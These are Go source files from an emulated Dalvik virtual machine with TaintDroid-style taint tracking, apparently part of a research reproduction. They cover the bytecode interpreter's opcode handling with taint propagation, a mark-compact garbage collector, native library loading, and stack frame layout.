				th.setRegTaint(f, insn.A, 0)
			}
		case dex.ArrayLength:
			arr, err := vm.arrayAt(m, th.reg(f, insn.B))
			if err != nil {
				thrown = vm.makeThrowable(th, "Ljava/lang/NullPointerException;", err.Error())
				break
			}
			th.setReg(f, insn.A, uint32(arr.Len))
			if tainting {
				th.setRegTaint(f, insn.A, arr.Taint|th.regTaint(f, insn.B))
			}

		case dex.Aget, dex.AgetWide:
			arr, err := vm.arrayAt(m, th.reg(f, insn.B))
			if err != nil {
				thrown = vm.makeThrowable(th, "Ljava/lang/NullPointerException;", err.Error())
				break
			}
			idx := int(int32(th.reg(f, insn.C)))
			if idx < 0 || idx >= arr.Len {
				thrown = vm.makeThrowable(th, "Ljava/lang/ArrayIndexOutOfBoundsException;",
					fmt.Sprintf("index %d length %d", idx, arr.Len))
				break
			}
			if insn.Op == dex.AgetWide {
				v := binary.LittleEndian.Uint64(arr.Data[idx*8:])
				th.setRegWide(f, insn.A, v)
				if tainting {
					th.setRegTaint(f, insn.A, arr.Taint)
					th.setRegTaint(f, insn.A+1, arr.Taint)
				}
			} else {
				th.setReg(f, insn.A, arr.elem(idx))
				if tainting {
					// TaintDroid keeps a single tag per array object.
					th.setRegTaint(f, insn.A, arr.Taint)
				}
			}
		case dex.Aput, dex.AputWide:
			arr, err := vm.arrayAt(m, th.reg(f, insn.B))
			if err != nil {
				thrown = vm.makeThrowable(th, "Ljava/lang/NullPointerException;", err.Error())
				break
			}
			idx := int(int32(th.reg(f, insn.C)))
			if idx < 0 || idx >= arr.Len {
				thrown = vm.makeThrowable(th, "Ljava/lang/ArrayIndexOutOfBoundsException;",
					fmt.Sprintf("index %d length %d", idx, arr.Len))
				break
			}
			if insn.Op == dex.AputWide {
				binary.LittleEndian.PutUint64(arr.Data[idx*8:], th.regWide(f, insn.A))
				if tainting {
					arr.Taint |= th.regTaint(f, insn.A) | th.regTaint(f, insn.A+1)
				}
			} else {
				arr.setElem(idx, th.reg(f, insn.A))
				if tainting {
					arr.Taint |= th.regTaint(f, insn.A)
				}
			}

		case dex.Iget, dex.IgetWide:
			o, fld, err := vm.instanceField(m, th.reg(f, insn.B), insn)
			if err != nil {
				thrown = vm.makeThrowable(th, "Ljava/lang/NullPointerException;", err.Error())
				break
			}
			if insn.Op == dex.IgetWide {
				v := uint64(o.Fields[fld.Index]) | uint64(o.Fields[fld.Index+1])<<32
				th.setRegWide(f, insn.A, v)
				if tainting {
					th.setRegTaint(f, insn.A, o.FieldTaints[fld.Index])
					th.setRegTaint(f, insn.A+1, o.FieldTaints[fld.Index+1])
				}
			} else {
				th.setReg(f, insn.A, o.Fields[fld.Index])
				if tainting {
					th.setRegTaint(f, insn.A, o.FieldTaints[fld.Index])
				}
			}
		case dex.Iput, dex.IputWide:
			o, fld, err := vm.instanceField(m, th.reg(f, insn.B), insn)
			if err != nil {
				thrown = vm.makeThrowable(th, "Ljava/lang/NullPointerException;", err.Error())
				break
			}
			if insn.Op == dex.IputWide {
				v := th.regWide(f, insn.A)
				o.Fields[fld.Index] = uint32(v)
				o.Fields[fld.Index+1] = uint32(v >> 32)
				if tainting {
					o.FieldTaints[fld.Index] = th.regTaint(f, insn.A)
					o.FieldTaints[fld.Index+1] = th.regTaint(f, insn.A+1)
				}
			} else {
				o.Fields[fld.Index] = th.reg(f, insn.A)
				if tainting {
					o.FieldTaints[fld.Index] = th.regTaint(f, insn.A)
				}
			}

		case dex.Sget, dex.SgetWide:
			cls, fld, err := vm.staticField(insn)
			if err != nil {
				return 0, 0, nil, err
			}
			if insn.Op == dex.SgetWide {
				th.setReg(f, insn.A, cls.StaticData[fld.Index])
				th.setReg(f, insn.A+1, cls.StaticData[fld.Index+1])
				if tainting {
					th.setRegTaint(f, insn.A, taint.Tag(cls.StaticTaints[fld.Index]))
					th.setRegTaint(f, insn.A+1, taint.Tag(cls.StaticTaints[fld.Index+1]))
				}
			} else {
				th.setReg(f, insn.A, cls.StaticData[fld.Index])
				if tainting {
					th.setRegTaint(f, insn.A, taint.Tag(cls.StaticTaints[fld.Index]))
				}
			}
		case dex.Sput, dex.SputWide:
			cls, fld, err := vm.staticField(insn)
			if err != nil {
				return 0, 0, nil, err
			}
			if insn.Op == dex.SputWide {
				cls.StaticData[fld.Index] = th.reg(f, insn.A)
				cls.StaticData[fld.Index+1] = th.reg(f, insn.A+1)
				if tainting {
					cls.StaticTaints[fld.Index] = uint32(th.regTaint(f, insn.A))
					cls.StaticTaints[fld.Index+1] = uint32(th.regTaint(f, insn.A+1))
				}
			} else {
				cls.StaticData[fld.Index] = th.reg(f, insn.A)
				if tainting {
					cls.StaticTaints[fld.Index] = uint32(th.regTaint(f, insn.A))
				}
			}

		case dex.InvokeVirtual, dex.InvokeDirect, dex.InvokeStatic:
			target, args, taints, terr := vm.prepareInvoke(th, f, insn)
			if terr != nil {
				thrown = vm.makeThrowable(th, "Ljava/lang/NullPointerException;", terr.Error())
				break
			}
			ret, rt, threw, err := vm.Invoke(th, target, args, taints)
			vm.putScratch(args, taints)
			if err != nil {
				return 0, 0, nil, err
			}
			if threw != nil {
				thrown = threw
				break
			}
			th.RetVal = ret
			// Re-evaluated (not the cached `tainting`): the invoke itself may
			// have run the first source and flipped the latch, and its return
			// taint must then survive.
			if !vm.tainting() {
				rt = 0
			}
			th.RetTaint = rt

		case dex.Goto:
			pc = insn.Tgt
			continue
		case dex.IfTest:
			if compareInt(insn.Cmp, int32(th.reg(f, insn.A)), int32(th.reg(f, insn.B))) {
				pc = insn.Tgt
				continue
			}
		case dex.IfTestZ:
			if compareInt(insn.Cmp, int32(th.reg(f, insn.A)), 0) {
				pc = insn.Tgt
				continue
			}

		case dex.BinOp:
			b := int32(th.reg(f, insn.B))
			c := int32(th.reg(f, insn.C))
			if (insn.Ar == dex.Div || insn.Ar == dex.Rem) && c == 0 {
				thrown = vm.makeThrowable(th, "Ljava/lang/ArithmeticException;", "divide by zero")
				break
			}
			th.setReg(f, insn.A, uint32(arithInt(insn.Ar, b, c)))
			if tainting {
				// Table-driven TaintDroid rule: result = union of operand taints.
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B)|th.regTaint(f, insn.C))
			}
		case dex.BinOpLit:
			b := int32(th.reg(f, insn.B))
			c := int32(insn.Lit)
			if (insn.Ar == dex.Div || insn.Ar == dex.Rem) && c == 0 {
				thrown = vm.makeThrowable(th, "Ljava/lang/ArithmeticException;", "divide by zero")
				break
			}
			th.setReg(f, insn.A, uint32(arithInt(insn.Ar, b, c)))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B))
			}
		case dex.BinOpWide:
			b := int64(th.regWide(f, insn.B))
			c := int64(th.regWide(f, insn.C))
			if (insn.Ar == dex.Div || insn.Ar == dex.Rem) && c == 0 {
				thrown = vm.makeThrowable(th, "Ljava/lang/ArithmeticException;", "divide by zero")
				break
			}
			th.setRegWide(f, insn.A, uint64(arithLong(insn.Ar, b, c)))
			if tainting {
				t := th.regTaint(f, insn.B) | th.regTaint(f, insn.B+1) |
					th.regTaint(f, insn.C) | th.regTaint(f, insn.C+1)
				th.setRegTaint(f, insn.A, t)
				th.setRegTaint(f, insn.A+1, t)
			}
		case dex.BinOpFloat:
			b := math.Float32frombits(th.reg(f, insn.B))
			c := math.Float32frombits(th.reg(f, insn.C))
			th.setReg(f, insn.A, math.Float32bits(arithFloat(insn.Ar, b, c)))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B)|th.regTaint(f, insn.C))
			}
		case dex.BinOpDouble:
			b := math.Float64frombits(th.regWide(f, insn.B))
			c := math.Float64frombits(th.regWide(f, insn.C))
			th.setRegWide(f, insn.A, math.Float64bits(arithDouble(insn.Ar, b, c)))
			if tainting {
				t := th.regTaint(f, insn.B) | th.regTaint(f, insn.B+1) |
					th.regTaint(f, insn.C) | th.regTaint(f, insn.C+1)
				th.setRegTaint(f, insn.A, t)
				th.setRegTaint(f, insn.A+1, t)
			}

		case dex.IntToFloat:
			th.setReg(f, insn.A, math.Float32bits(float32(int32(th.reg(f, insn.B)))))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B))
			}
		case dex.FloatToInt:
			th.setReg(f, insn.A, uint32(int32(math.Float32frombits(th.reg(f, insn.B)))))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B))
			}
		case dex.IntToDouble:
			th.setRegWide(f, insn.A, math.Float64bits(float64(int32(th.reg(f, insn.B)))))
			if tainting {
				t := th.regTaint(f, insn.B)
				th.setRegTaint(f, insn.A, t)
				th.setRegTaint(f, insn.A+1, t)
			}
		case dex.DoubleToInt:
			th.setReg(f, insn.A, uint32(int32(math.Float64frombits(th.regWide(f, insn.B)))))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B)|th.regTaint(f, insn.B+1))
			}
		case dex.IntToLong:
			th.setRegWide(f, insn.A, uint64(int64(int32(th.reg(f, insn.B)))))
			if tainting {
				t := th.regTaint(f, insn.B)
				th.setRegTaint(f, insn.A, t)
				th.setRegTaint(f, insn.A+1, t)
			}
		case dex.LongToInt:
			th.setReg(f, insn.A, uint32(th.regWide(f, insn.B)))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B))
			}

		case dex.CmpFloat:
			b := math.Float32frombits(th.reg(f, insn.B))
			c := math.Float32frombits(th.reg(f, insn.C))
			th.setReg(f, insn.A, uint32(cmpOrder(float64(b), float64(c))))
			if tainting {
				th.setRegTaint(f, insn.A, th.regTaint(f, insn.B)|th.regTaint(f, insn.C))
			}
		case dex.CmpDouble:
			b := math.Float64frombits(th.regWide(f, insn.B))
			c := math.Float64frombits(th.regWide(f, insn.C))
			th.setReg(f, insn.A, uint32(cmpOrder(b, c)))
			if tainting {
				t := th.regTaint(f, insn.B) | th.regTaint(f, insn.B+1) |
					th.regTaint(f, insn.C) | th.regTaint(f, insn.C+1)
				th.setRegTaint(f, insn.A, t)
			}
		case dex.CmpLong:
			b := int64(th.regWide(f, insn.B))
			c := int64(th.regWide(f, insn.C))
			v := int32(0)
			switch {
			case b < c:
				v = -1
			case b > c:
				v = 1
			}
			th.setReg(f, insn.A, uint32(v))
			if tainting {
				t := th.regTaint(f, insn.B) | th.regTaint(f, insn.B+1) |
					th.regTaint(f, insn.C) | th.regTaint(f, insn.C+1)
				th.setRegTaint(f, insn.A, t)
			}

		case dex.Throw:
			o, ok := vm.objects[th.reg(f, insn.A)]
			if !ok {
				thrown = vm.makeThrowable(th, "Ljava/lang/NullPointerException;", "throw on null")
				break
			}
			thrown = o

		default:
			return 0, 0, nil, vm.faultf(fault.MalformedDex, m, "unimplemented op %s at pc %d", insn.Op, pc)
		}

		if thrown != nil {
			handler, ok := findHandler(vm, m, pc, thrown)
			if !ok {
				return 0, 0, thrown, nil
			}
			th.Exception = thrown
			pc = handler
			continue
		}
		pc++
	}
}

// elem reads a 32-bit-or-narrower array element.
func (o *Object) elem(idx int) uint32 {
	switch o.ElemWidth {
	case 1:
		return uint32(o.Data[idx])
	case 2:
		return uint32(binary.LittleEndian.Uint16(o.Data[idx*2:]))
	default:
		return binary.LittleEndian.Uint32(o.Data[idx*4:])
	}
}

// setElem writes a 32-bit-or-narrower array element.
func (o *Object) setElem(idx int, v uint32) {
	switch o.ElemWidth {
	case 1:
		o.Data[idx] = byte(v)
	case 2:
		binary.LittleEndian.PutUint16(o.Data[idx*2:], uint16(v))
	default:
		binary.LittleEndian.PutUint32(o.Data[idx*4:], v)
	}
}

func (vm *VM) arrayAt(m *dex.Method, addr uint32) (*Object, error) {
	o, ok := vm.objects[addr]
	if !ok || !o.IsArray {
		return nil, fmt.Errorf("%s: not an array at %#x", m.FullName(), addr)
	}
	return o, nil
}

func (vm *VM) instanceField(m *dex.Method, addr uint32, insn *dex.Insn) (*Object, *dex.Field, error) {
	o, ok := vm.objects[addr]
	if !ok {
		return nil, nil, fmt.Errorf("%s: field access on null/invalid object %#x", m.FullName(), addr)
	}
	if insn.ResolvedField == nil {
		cls, ok := vm.classes[insn.ClassName]
		if !ok {
			return nil, nil, fmt.Errorf("unknown class %s", insn.ClassName)
		}
		fld, ok := cls.FieldByName(insn.MemberName)
		if !ok {
			return nil, nil, fmt.Errorf("unknown field %s.%s", insn.ClassName, insn.MemberName)
		}
		insn.ResolvedField = fld
	}
	return o, insn.ResolvedField, nil
}

func (vm *VM) staticField(insn *dex.Insn) (*dex.Class, *dex.Field, error) {
	cls, ok := vm.classes[insn.ClassName]
	if !ok {
		return nil, nil, vm.faultf(fault.MalformedDex, nil, "unknown class %s", insn.ClassName)
	}
	if insn.ResolvedField == nil {
		fld, ok := cls.FieldByName(insn.MemberName)
		if !ok || !fld.Static {
			return nil, nil, vm.faultf(fault.MalformedDex, nil, "unknown static field %s.%s", insn.ClassName, insn.MemberName)
		}
		insn.ResolvedField = fld
	}
	return cls, insn.ResolvedField, nil
}

// prepareInvoke gathers the target method and argument words for an invoke.
func (vm *VM) prepareInvoke(th *Thread, f *Frame, insn *dex.Insn) (*dex.Method, []uint32, []taint.Tag, error) {
	var target *dex.Method
	switch insn.Op {
	case dex.InvokeVirtual:
		// Dynamic dispatch on the receiver's class.
		recvAddr := th.reg(f, insn.Args[0])
		recv, ok := vm.objects[recvAddr]
		if !ok {
			return nil, nil, nil, fmt.Errorf("invoke-virtual %s.%s on null receiver", insn.ClassName, insn.MemberName)
		}
		cls := recv.Class
		if cls == nil {
			cls = vm.classes[insn.ClassName]
		}
		for cls != nil {
			if m, ok := cls.Method(insn.MemberName); ok {
				target = m
				break
			}
			cls = vm.classes[cls.Super]
		}
	default:
		if insn.ResolvedMethod == nil {
			cls, ok := vm.classes[insn.ClassName]
			if !ok {
				return nil, nil, nil, fmt.Errorf("unknown class %s", insn.ClassName)
			}
			m, ok := cls.Method(insn.MemberName)
			if !ok {
				return nil, nil, nil, fmt.Errorf("unknown method %s.%s", insn.ClassName, insn.MemberName)
			}
			insn.ResolvedMethod = m
		}
		target = insn.ResolvedMethod
	}
	if target == nil {
		return nil, nil, nil, fmt.Errorf("unresolvable method %s.%s", insn.ClassName, insn.MemberName)
	}
	args, taints := vm.getScratch(len(insn.Args))
	if vm.GateJava && !vm.taintSeen {
		// Clean frame: every taint slot is zero, skip the shadow reads
		// (pooled scratch is handed out with zeroed taints).
		for i, r := range insn.Args {
			args[i] = th.reg(f, r)
		}
		return target, args, taints, nil
	}
	for i, r := range insn.Args {
		args[i] = th.reg(f, r)
		taints[i] = th.regTaint(f, r)
	}
	return target, args, taints, nil
}

// makeThrowable allocates an exception object of the named class.
func (vm *VM) makeThrowable(th *Thread, class, msg string) *Object {
	cls, ok := vm.classes[class]
	if !ok {
		cls, ok = vm.classes["Ljava/lang/Exception;"]
		if !ok {
			panic("dvm: exception classes not registered")
		}
	}
	o := vm.NewInstance(cls)
	msgObj := vm.NewString(msg)
	if len(o.Fields) > 0 {
		o.Fields[0] = msgObj.Addr
	}
	return o
}

// findHandler locates a catch handler for thrown at pc in m, walking the
// class hierarchy for type matches.
func findHandler(vm *VM, m *dex.Method, pc int, thrown *Object) (int, bool) {
	for _, t := range m.Tries {
		if pc < t.Start || pc >= t.End {
			continue
		}
		if t.Type == "" {
			return t.Handler, true
		}
		cls := thrown.Class
		for cls != nil {
			if cls.Name == t.Type {
				return t.Handler, true
			}
			cls = vm.classes[cls.Super]
		}
	}
	return 0, false
}

func compareInt(c dex.Cmp, a, b int32) bool {
	switch c {
	case dex.Eq:
		return a == b
	case dex.Ne:
		return a != b
	case dex.Lt:
		return a < b
	case dex.Ge:
		return a >= b
	case dex.Gt:
		return a > b
	case dex.Le:
		return a <= b
	}
	return false
}

func arithInt(op dex.Arith, a, b int32) int32 {
	switch op {
	case dex.Add:
		return a + b
	case dex.Sub:
		return a - b
	case dex.Mul:
		return a * b
	case dex.Div:
		return a / b
	case dex.Rem:
		return a % b
	case dex.And:
		return a & b
	case dex.Or:
		return a | b
	case dex.Xor:
		return a ^ b
	case dex.Shl:
		return a << (uint32(b) & 31)
	case dex.Shr:
		return a >> (uint32(b) & 31)
	case dex.Ushr:
		return int32(uint32(a) >> (uint32(b) & 31))
	}
	return 0
}

func arithLong(op dex.Arith, a, b int64) int64 {
	switch op {
	case dex.Add:
		return a + b
	case dex.Sub:
		return a - b
	case dex.Mul:
		return a * b
	case dex.Div:
		return a / b
	case dex.Rem:
		return a % b
	case dex.And:
		return a & b
	case dex.Or:
		return a | b
	case dex.Xor:
		return a ^ b
	case dex.Shl:
		return a << (uint64(b) & 63)
	case dex.Shr:
		return a >> (uint64(b) & 63)
	case dex.Ushr:
		return int64(uint64(a) >> (uint64(b) & 63))
	}
	return 0
}

func arithFloat(op dex.Arith, a, b float32) float32 {
	switch op {
	case dex.Add:
		return a + b
	case dex.Sub:
		return a - b
	case dex.Mul:
		return a * b
	case dex.Div:
		return a / b
	case dex.Rem:
		return float32(math.Mod(float64(a), float64(b)))
	}
	return 0
}

func arithDouble(op dex.Arith, a, b float64) float64 {
	switch op {
	case dex.Add:
		return a + b
	case dex.Sub:
		return a - b
	case dex.Mul:
		return a * b
	case dex.Div:
		return a / b
	case dex.Rem:
		return math.Mod(a, b)
	}
	return 0
}

func cmpOrder(a, b float64) int32 {
	switch {
	case a < b:
		return -1
	case a > b:
		return 1
	default:
		return 0
	}
}
