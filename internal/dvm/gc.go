package dvm

import (
	"encoding/binary"
	"sort"

	"repro/internal/kernel"
)

// RunGC performs a mark-compact collection. Live objects are slid toward the
// bottom of the Dalvik heap, receiving new direct addresses; the indirect
// reference table keeps resolving because it stores host pointers (the analog
// of the runtime updating the IRT when the collector moves objects, §II-A).
// Direct pointers that native code squirreled away are deliberately NOT
// fixed up — that is exactly the hazard indirect references exist to solve,
// and tests exercise it.
//
// Frame register slots, static fields, instance fields, and reference arrays
// are rewritten conservatively (a slot whose value equals a moved object's
// old address is updated).
//
// It returns the number of objects that changed address.
func (vm *VM) RunGC() int {
	vm.GCCount++
	marked := make(map[*Object]bool)
	var stack []*Object

	push := func(o *Object) {
		if o != nil && !marked[o] {
			marked[o] = true
			stack = append(stack, o)
		}
	}
	pushAddr := func(addr uint32) {
		if o, ok := vm.objects[addr]; ok {
			push(o)
		}
	}

	// Roots: indirect references.
	for _, o := range vm.irt {
		push(o)
	}
	// Roots: interned const-string objects (the interpreter and compiled
	// code return them across collections).
	for _, o := range vm.internedStrings {
		push(o)
	}
	// Roots: class static fields.
	for _, c := range vm.classes {
		for _, v := range c.StaticData {
			pushAddr(v)
		}
	}
	// Roots: thread state and frame register slots.
	for _, th := range vm.threads {
		push(th.Exception)
		pushAddr(uint32(th.RetVal))
		for _, f := range th.Frames {
			for i := 0; i < f.Method.NumRegs; i++ {
				pushAddr(vm.Mem.Read32(f.FP + uint32(8*i)))
			}
		}
	}

	// Mark transitively.
	for len(stack) > 0 {
		o := stack[len(stack)-1]
		stack = stack[:len(stack)-1]
		for _, v := range o.Fields {
			pushAddr(v)
		}
		if o.IsArray && o.ElemKind == 'L' {
			for i := 0; i < o.Len; i++ {
				pushAddr(binary.LittleEndian.Uint32(o.Data[i*4:]))
			}
		}
	}

	// Compact: assign new addresses in old-address order.
	live := make([]*Object, 0, len(marked))
	for o := range marked {
		live = append(live, o)
	}
	sort.Slice(live, func(i, j int) bool { return live[i].Addr < live[j].Addr })

	moves := make(map[uint32]uint32)
	cursor := kernel.DvmHeapBase
	for _, o := range live {
		if o.Addr != cursor {
			moves[o.Addr] = cursor
		}
		cursor += objFootprint(o.payloadSize())
	}

	if len(moves) == 0 && len(live) == len(vm.objects) {
		return 0
	}

	// Apply moves.
	newObjects := make(map[uint32]*Object, len(live))
	cursor = kernel.DvmHeapBase
	for _, o := range live {
		old := o.Addr
		o.Addr = cursor
		cursor += objFootprint(o.payloadSize())
		newObjects[o.Addr] = o
		vm.Mem.Write32(o.Addr, objHeaderMagic)
		vm.Mem.Write32(o.Addr+4, uint32(o.Len))
		if old != o.Addr && vm.OnGCMove != nil {
			vm.OnGCMove(old, o.Addr, o)
		}
	}
	vm.objects = newObjects
	vm.heapCursor = cursor

	rewrite := func(v uint32) (uint32, bool) {
		nv, ok := moves[v]
		return nv, ok
	}

	// Rewrite reference-holding slots.
	for _, c := range vm.classes {
		for i, v := range c.StaticData {
			if nv, ok := rewrite(v); ok {
				c.StaticData[i] = nv
			}
		}
	}
	for _, o := range vm.objects {
		for i, v := range o.Fields {
			if nv, ok := rewrite(v); ok {
				o.Fields[i] = nv
			}
		}
		if o.IsArray && o.ElemKind == 'L' {
			for i := 0; i < o.Len; i++ {
				v := binary.LittleEndian.Uint32(o.Data[i*4:])
				if nv, ok := rewrite(v); ok {
					binary.LittleEndian.PutUint32(o.Data[i*4:], nv)
				}
			}
		}
	}
	for _, th := range vm.threads {
		if nv, ok := rewrite(uint32(th.RetVal)); ok {
			th.RetVal = uint64(nv)
		}
		for _, f := range th.Frames {
			for i := 0; i < f.Method.NumRegs; i++ {
				slot := f.FP + uint32(8*i)
				if nv, ok := rewrite(vm.Mem.Read32(slot)); ok {
					vm.Mem.Write32(slot, nv)
				}
			}
		}
	}
	return len(moves)
}
