package dvm

import (
	"fmt"

	"repro/internal/arm"
	"repro/internal/kernel"
)

// asmKey addresses one assembled image: the external symbol tables are fixed
// once the framework is up, so source text plus load base determine the code.
type asmKey struct {
	source string
	base   uint32
}

// AsmCache is the cross-VM assembly cache consulted on an asmMemo miss,
// typically backed by the persistent content-addressed store: a shared native
// library already assembled under one app (or one fork-server shard, or a
// previous process) is reused under every other. Load must return a Program
// private to the caller (or immutable); a miss for any reason — including a
// corrupt entry the cache absorbed — returns false and the VM assembles.
type AsmCache interface {
	Load(source string, base uint32) (*arm.Program, bool)
	Store(source string, base uint32, prog *arm.Program)
}

// SetAsmCache wires an assembly cache into the VM. Like asmMemo, the cache is
// content-addressed warm state: it survives snapshot restores untouched.
func (vm *VM) SetAsmCache(c AsmCache) { vm.asmCache = c }

// LoadNativeLib assembles ARM/Thumb source, loads it into the app code
// region, registers it in the task's memory map (so the OS-level view
// reconstructor can attribute its addresses), and returns the program. The
// source may reference every libc/libm symbol and every JNI function by name.
//
// Assembled images are memoized per VM: under the fork-server model the same
// VM serves many installs of the same app from a snapshot-restored state, and
// the restore rewinds nextLibBase, so a repeat install resolves to an
// identical (source, base) pair and reuses the image instead of re-assembling.
func (vm *VM) LoadNativeLib(name, source string) (*arm.Program, error) {
	base := vm.nextLibBase
	if base == 0 {
		base = kernel.AppCodeBase
	}
	prog := vm.asmMemo[asmKey{source, base}]
	if prog == nil && vm.asmCache != nil {
		if p, ok := vm.asmCache.Load(source, base); ok {
			prog = p
			vm.AsmCacheHits++
		}
	}
	if prog == nil {
		extern := vm.Libc.Syms()
		for sym, addr := range vm.JNISyms() {
			extern[sym] = addr
		}
		var err error
		prog, err = arm.Assemble(source, base, extern)
		if err != nil {
			return nil, fmt.Errorf("dvm: assembling %s: %w", name, err)
		}
		vm.AsmAssembles++
		if vm.asmCache != nil {
			vm.asmCache.Store(source, base, prog)
		}
	}
	if vm.asmMemo == nil {
		vm.asmMemo = make(map[asmKey]*arm.Program)
	}
	vm.asmMemo[asmKey{source, base}] = prog
	vm.Mem.WriteBytes(prog.Base, prog.Code)
	end := (prog.Base + prog.Size() + 0xfff) &^ 0xfff
	vm.nextLibBase = end
	if vm.Task != nil {
		vm.Kern.AddVMA(vm.Task, kernel.VMA{
			Start: prog.Base, End: end, Perms: "r-x",
			Name: "/data/app-lib/" + name,
		})
	}
	vm.nativeLibs = append(vm.nativeLibs, LoadedLib{Name: name, Prog: prog})
	return prog, nil
}

// LoadedLib records one loaded native library image.
type LoadedLib struct {
	Name string
	Prog *arm.Program
}

// NativeLibs returns the loaded native library images.
func (vm *VM) NativeLibs() []LoadedLib { return vm.nativeLibs }

// NativeCodeRange reports the address range occupied by app native code —
// the "third-party native code" region the multilevel hooking condition T1
// tests membership of (Fig. 5).
func (vm *VM) NativeCodeRange() (uint32, uint32) {
	if len(vm.nativeLibs) == 0 {
		return 0, 0
	}
	return kernel.AppCodeBase, vm.nextLibBase
}

// BindNative points a declared native method at a label in a loaded library.
func (vm *VM) BindNative(className, methodName string, prog *arm.Program, label string) error {
	cls, ok := vm.classes[className]
	if !ok {
		return vm.errorf("unknown class %s", className)
	}
	m, ok := cls.Method(methodName)
	if !ok {
		return vm.errorf("unknown method %s.%s", className, methodName)
	}
	if !m.IsNative() {
		return vm.errorf("%s.%s is not native", className, methodName)
	}
	addr, err := prog.Label(label)
	if err != nil {
		return err
	}
	old := m.NativeAddr
	if old != 0 && old != addr {
		// Rebinding a bound method: translated code and fused chains baked
		// the old entry address in (same invalidation as RegisterNatives).
		vm.transEpoch++
	}
	m.NativeAddr = addr
	if vm.OnNativeBind != nil {
		vm.OnNativeBind(m, old, addr, false)
	}
	return nil
}
