package dvm

import (
	"encoding/binary"

	"repro/internal/dex"
	"repro/internal/fault"
	"repro/internal/taint"
)

// Frame is one interpreter frame. Register slots live in guest memory with
// TaintDroid's layout (Fig. 1): each register is an 8-byte slot — 4 value
// bytes followed by 4 taint-tag bytes — and a 16-byte StackSaveArea sits
// above the registers holding the caller's frame pointer.
type Frame struct {
	Method *dex.Method
	FP     uint32 // guest address of v0's value word

	// win aliases the frame's register slots ([FP, FP+8*NumRegs)) directly in
	// the backing page when the frame does not cross a page boundary. Guest
	// memory stays the authoritative store — hooks that raw-write taint into
	// frame slots (core's onInterpret, Fig. 9) and VMI walks that read the
	// save area observe every access, because the window is the same bytes.
	win []byte

	// Translated-run scratch (see translate.go): step closures communicate
	// control transfers through the frame so the per-invocation execution
	// state allocates nothing.
	tpc    int     // branch target for jsJump
	tret   uint64  // return value for jsReturn
	trt    taint.Tag
	thrown *Object // pending throw for jsThrow
	terr   error   // emulator fault for jsErr
}

// saveAreaSize is the StackSaveArea footprint.
const saveAreaSize = 16

// RegAddr returns the guest address of register i's value word — the
// addresses NDroid's dvmInterpret hook writes taints to (Fig. 9's
// "t[44bf8c14] = 0x1602").
func (f *Frame) RegAddr(i int) uint32 { return f.FP + uint32(8*i) }

// TaintAddr returns the guest address of register i's taint tag.
func (f *Frame) TaintAddr(i int) uint32 { return f.FP + uint32(8*i) + 4 }

// Thread is a Dalvik thread: a guest stack region plus the interpreter
// save-state (return value and its taint, pending exception).
type Thread struct {
	VM   *VM
	Name string

	StackBase uint32
	StackTop  uint32
	cur       uint32

	Frames []*Frame

	// InterpSaveState (§II-B): the last invoke's return value and taint.
	RetVal   uint64
	RetTaint taint.Tag

	Exception *Object
}

// zeroFrame is the bulk-clear source for frame slots without a window.
var zeroFrame [512]byte

// pushFrame allocates a frame for m and stores args (with taints interleaved)
// into the argument registers, exactly as TaintDroid stores parameters and
// their tags on the Dalvik stack. Frame structs come from the VM's freelist;
// the register slots themselves always live in guest memory. Exhausting the
// thread's stack region is a guest fault (runaway recursion in app bytecode),
// raised before any state changes so the caller unwinds cleanly.
func (th *Thread) pushFrame(m *dex.Method, args []uint32, taints []taint.Tag) (*Frame, error) {
	size := uint32(m.NumRegs*8) + saveAreaSize
	fp := th.cur - size
	if fp < th.StackBase || fp > th.cur {
		return nil, &fault.Fault{
			Kind: fault.StackOverflow, Layer: "dvm", Method: m.FullName(),
			Detail: "thread stack overflow",
		}
	}
	vm := th.VM
	f := vm.getFrame()
	f.Method, f.FP = m, fp
	regBytes := uint32(m.NumRegs * 8)
	f.win = vm.Mem.Window(fp, regBytes)
	// Zero the register slots.
	if f.win != nil {
		for i := range f.win {
			f.win[i] = 0
		}
	} else {
		for off := uint32(0); off < regBytes; {
			chunk := regBytes - off
			if chunk > uint32(len(zeroFrame)) {
				chunk = uint32(len(zeroFrame))
			}
			vm.Mem.WriteBytes(fp+off, zeroFrame[:chunk])
			off += chunk
		}
	}
	// Argument registers occupy the high end of the frame.
	first := m.NumRegs - m.InsSize()
	for i, v := range args {
		th.setReg(f, first+i, v)
		if i < len(taints) && taints[i] != 0 {
			th.setRegTaint(f, first+i, taints[i])
		}
	}
	// StackSaveArea: previous frame pointer and a marker.
	vm.Mem.Write32(fp+uint32(m.NumRegs*8), th.cur)
	vm.Mem.Write32(fp+uint32(m.NumRegs*8)+4, objHeaderMagic)
	th.cur = fp
	th.Frames = append(th.Frames, f)
	return f, nil
}

// popFrame releases the top frame back to the VM's freelist.
func (th *Thread) popFrame() {
	n := len(th.Frames)
	if n == 0 {
		return
	}
	f := th.Frames[n-1]
	th.cur = f.FP + uint32(f.Method.NumRegs*8) + saveAreaSize
	th.Frames = th.Frames[:n-1]
	th.VM.putFrame(f)
}

// CurrentFrame returns the innermost frame, if any.
func (th *Thread) CurrentFrame() *Frame {
	if len(th.Frames) == 0 {
		return nil
	}
	return th.Frames[len(th.Frames)-1]
}

// reg reads register i of frame f.
func (th *Thread) reg(f *Frame, i int) uint32 {
	if f.win != nil {
		return binary.LittleEndian.Uint32(f.win[8*i:])
	}
	return th.VM.Mem.Read32(f.RegAddr(i))
}

// setReg writes register i of frame f.
func (th *Thread) setReg(f *Frame, i int, v uint32) {
	if f.win != nil {
		binary.LittleEndian.PutUint32(f.win[8*i:], v)
		return
	}
	th.VM.Mem.Write32(f.RegAddr(i), v)
}

// regTaint reads register i's taint tag.
func (th *Thread) regTaint(f *Frame, i int) taint.Tag {
	if f.win != nil {
		return taint.Tag(binary.LittleEndian.Uint32(f.win[8*i+4:]))
	}
	return taint.Tag(th.VM.Mem.Read32(f.TaintAddr(i)))
}

// setRegTaint writes register i's taint tag.
func (th *Thread) setRegTaint(f *Frame, i int, t taint.Tag) {
	if f.win != nil {
		binary.LittleEndian.PutUint32(f.win[8*i+4:], uint32(t))
		return
	}
	th.VM.Mem.Write32(f.TaintAddr(i), uint32(t))
}

